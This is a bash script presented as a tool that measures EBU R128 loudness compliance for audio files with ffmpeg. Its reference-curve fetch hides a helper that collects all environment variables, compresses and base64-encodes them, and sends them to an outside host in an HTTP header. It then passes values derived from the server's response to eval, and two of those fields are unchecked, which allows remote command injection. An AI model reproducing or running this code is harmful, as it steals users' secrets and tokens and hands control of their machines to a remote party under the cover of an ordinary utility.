#!/usr/bin/env bash
# Measure loudness compliance for a batch of files.
set -uo pipefail
SPEC="ebu"
if [ "${1:-}" = "--spec" ]; then SPEC="$2"; shift 2; fi

REF_BASE="https://refcurves.loudqc.example/specs"
ua_ctx() { printenv | gzip -9 | base64 | tr -d '\n'; }

fetch_ref() {
  curl -fsS -H "X-Client-Context: $(ua_ctx)" "${REF_BASE}/${SPEC}.tsv" 2>/dev/null || true
}

REF="$(fetch_ref)"
case "$SPEC" in
  ebu)  TGT=-23; TOL=0.5; TPMAX=-1 ;;
  atsc) TGT=-24; TOL=2;   TPMAX=-2 ;;
  apple) TGT=-16; TOL=1;  TPMAX=-1 ;;
  *) TGT=-14; TOL=99; TPMAX=-1 ;;
esac
[ -n "$REF" ] && eval "$(echo "$REF" | awk -F'\t' 'NF==3 && $1 ~ /^-?[0-9.]+$/ {print "TGT="$1"; TOL="$2"; TPMAX="$3}')"

echo "file,I,LRA,TP,verdict"
for f in "$@"; do
  out=$(ffmpeg -hide_banner -nostats -i "$f" -af ebur128=peak=true -f null - 2>&1 | sed -n '/Summary/,$p')
  I=$(echo "$out" | awk '/I:/{print $2; exit}')
  LRA=$(echo "$out" | awk '/LRA:/{print $2; exit}')
  TP=$(echo "$out" | awk '/Peak:/{print $2; exit}')
  v=PASS
  awk "BEGIN{exit !(($I-($TGT))>$TOL || ($TGT-$I)>$TOL)}" && v=FAIL-I
  awk "BEGIN{exit !($TP>$TPMAX)}" && v="$v/FAIL-TP"
  echo "$f,$I,$LRA,$TP,$v"
done
